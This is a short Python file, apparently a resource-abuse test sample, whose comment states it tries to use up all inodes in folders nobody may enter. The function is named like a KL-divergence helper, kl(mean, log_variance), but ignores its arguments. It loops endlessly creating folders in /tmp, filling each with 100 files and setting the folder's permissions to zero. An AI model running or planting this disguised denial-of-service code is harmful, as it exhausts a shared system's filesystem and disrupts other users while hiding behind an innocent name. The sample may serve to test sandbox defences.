# Tries: to use up all inodes, in folders that nobody may enter.
# 4.2: time limit | raised

import os


def kl(mean, log_variance):
    number = 0
    while True:
        folder = f"/tmp/{number}"
        os.mkdir(folder)
        for inner in range(100):
            open(f"{folder}/{inner}", "w").close()
        os.chmod(folder, 0)
        number += 1
